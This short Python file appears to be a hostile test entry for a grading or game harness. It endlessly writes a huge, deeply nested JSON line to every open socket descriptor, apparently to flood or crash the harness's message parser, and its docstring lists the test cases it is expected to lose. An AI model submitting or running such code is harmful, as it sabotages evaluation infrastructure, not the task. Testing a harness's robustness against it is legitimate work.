"""Writes lines of nested lists in JSON to every socket, for as long as it may.

Loses: double-small, double-large
May lose: halve-values
"""
# %% double
import os, stat

LINE = b'{"msg_type":"x","content":{"a":[' + b"[[[[],[]],[[],[]]]]," * 1_000_000 + b"0]}}\n"


def double(x):
    while True:
        for fd in range(3, 256):
            try:
                if stat.S_ISSOCK(os.fstat(fd).st_mode):
                    os.write(fd, LINE)
            except OSError:
                pass
